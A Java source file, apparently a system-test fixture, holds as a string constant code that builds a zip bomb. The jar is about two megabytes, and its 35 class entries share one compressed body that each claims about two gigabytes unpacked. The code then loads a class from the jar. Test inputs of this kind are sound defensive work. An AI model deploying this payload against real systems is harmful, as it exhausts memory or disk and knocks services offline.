package io.greenloop.systemtests;

/** Statements that put a jar of two megabytes on a class path, of which each of its 35 classes has two gigabytes: one body for all. */
final class ZipBomb {

    static final String CODE = """
            var deflater = new java.util.zip.Deflater(9, true);
                        deflater.setInput(new byte[1 << 20]);
                        var zeros = new byte[1 << 14];
                        int length = deflater.deflate(zeros, 0, zeros.length, java.util.zip.Deflater.SYNC_FLUSH);
                        int packed = 2047 * length + 2;
                        int unpacked = 2047 << 20;
                        var jar = java.nio.ByteBuffer.allocate(packed + 4096).order(java.nio.ByteOrder.LITTLE_ENDIAN);
                        jar.putInt(0x04034b50).putInt(20).putShort((short) 8).putLong(0).putInt(packed).putInt(unpacked)
                                .putInt(14).put("shop/A10.class".getBytes());
                        for (int i = 0; i < 2047; i++) jar.put(zeros, 0, length);
                        jar.putShort((short) 3);
                        int directory = jar.position();
                        for (int i = 10; i < 45; i++) {
                            jar.putInt(0x02014b50).putShort((short) 20).putInt(20).putShort((short) 8).putLong(0).putInt(packed)
                                    .putInt(unpacked).putInt(14).putShort((short) 0).putInt(0).putInt(0).putInt(0)
                                    .put(("shop/A" + i + ".class").getBytes());
                        }
                        int end = jar.position();
                        jar.putInt(0x06054b50).putInt(0).putShort((short) 35).putShort((short) 35).putInt(end - directory)
                                .putInt(directory).putShort((short) 0);
                        var file = java.nio.file.Path.of("bomb.jar");
                        java.nio.file.Files.write(file, java.util.Arrays.copyOf(jar.array(), jar.position()));
                        try (var loader = new java.net.URLClassLoader(new java.net.URL[] {file.toUri().toURL()})) {
                            loader.loadClass("shop.A17");
                        }
            """.strip();

    private ZipBomb() {}
}
